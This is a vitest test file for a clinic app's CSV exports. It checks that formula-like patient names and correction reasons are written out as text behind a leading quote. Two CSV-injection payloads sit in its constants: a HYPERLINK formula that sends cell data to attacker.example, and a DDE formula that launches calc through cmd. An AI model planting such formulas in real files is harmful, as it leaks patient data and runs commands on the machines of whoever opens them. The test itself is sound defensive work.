import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { callOk, openSession, openTestCore, readyToStart, setUpAdmin } from '../support/test-core';
import { useTempDirs } from '../support/temp-dir';

const dirs = useTempDirs();

/** What a spreadsheet would run as a formula when the file is opened (CSV injection). */
const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A2,"Open")';
const FORMULA_REASON = '@SUM(1+1)*cmd|" /C calc"!A0';

describe('CSV exports opened in a spreadsheet', () => {
  it('write a name or reason typed as a formula as text (a leading quote), and numbers as numbers', async () => {
    const { core } = openTestCore(dirs.make());
    const { connection } = await setUpAdmin(core);
    const { session } = await openSession(connection, { patient: { familyName: FORMULA_NAME } });
    const baseline = await readyToStart(connection, session.id);
    await callOk(connection, 'reading/correct', { readingId: baseline.id, values: { ...baseline.values, heartRateBpm: 71 }, reason: FORMULA_REASON });
    const text = (file: { base64: string }) => Buffer.from(file.base64, 'base64').toString('utf8');

    const readings = parse(text(await callOk(connection, 'export/session', { sessionId: session.id, format: 'csv' })), { columns: true }) as Record<string, string>[];
    const corrected = readings.find((row) => row['Replaces reading'] === String(baseline.id));
    expect(corrected?.['Correction reason']).toBe(`'${FORMULA_REASON}`);
    expect(corrected?.['Heart rate (/min)']).toBe('71');

    const day = new Date(session.createdAt).toISOString().slice(0, 10);
    const sessions = parse(text(await callOk(connection, 'export/clinic', { from: day, to: day, format: 'csv' })), { columns: true }) as Record<string, string>[];
    expect(sessions).toHaveLength(1);
    // "Family, Given": the field starts with the family name, so it is the one defused.
    expect(sessions[0]?.Patient?.startsWith(`'${FORMULA_NAME}, `)).toBe(true);
    expect(sessions[0]?.Session).toBe(String(session.id));
    core.close();
  });
});
